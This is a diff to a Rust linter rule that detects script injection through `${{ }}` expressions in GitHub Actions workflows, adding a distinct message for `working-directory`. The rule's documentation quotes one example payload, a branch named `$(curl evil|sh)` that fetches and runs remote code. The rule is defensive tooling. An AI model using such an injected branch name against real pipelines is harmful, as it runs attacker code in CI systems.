@@ -2,7 +2,7 @@
 
 use crate::action::Catalogue;
 use crate::check::{Check, Group, Rule, WorkflowFile};
-use crate::diagnostic::{Diagnostics, Path, Place, Severity};
+use crate::diagnostic::{Diagnostics, Path, Place, Segment, Severity};
 use crate::workflow::Defaults;
 
 pub(super) static RULE: Rule = Rule {
@@ -18,7 +18,8 @@ that are run as code (`script` of `actions/github-script`).
 
 ## Why
 GitHub puts the value into the text before the shell reads it. A branch called `$(curl evil|sh)` is then a
-command. Values in the environment are data.
+command. Values in the environment are data. A folder is no code, but decides whose `package.json` or `Makefile` a script
+meets, and nothing can look at it before.
 
 ## Example
 ```yaml
@@ -40,8 +41,18 @@ fn check(file: &WorkflowFile<'_>, findings: &mut Diagnostics) {
         for (start, _) in text.match_indices("${{") {
             let length = text[start..].find("}}").map_or(text.len() - start, |close| close + 2);
             let place = Place::within(path.clone(), start..start + length);
-            let message = "an expression here becomes code before anything can quote it";
-            let help = "pass the value through `env:` and read it as a variable";
+            let is_folder = path.segments().last() == Some(&Segment::from("working-directory"));
+            let (message, help) = if is_folder {
+                (
+                    "an expression here decides which files a script meets before anything can look at it",
+                    "pass the value through `env:` and go there in the script",
+                )
+            } else {
+                (
+                    "an expression here becomes code before anything can quote it",
+                    "pass the value through `env:` and read it as a variable",
+                )
+            };
             findings.push(RULE.finding(place, message).with_help(help));
         }
     };
@@ -99,7 +110,7 @@ jobs:
 #                                    ^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
       - run: a
         working-directory: x/${{ matrix.dir }}
-#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: decides which files a script meets
       - uses: actions/github-script@v8
         with:
           script: core.info('${{ github.ref }}')
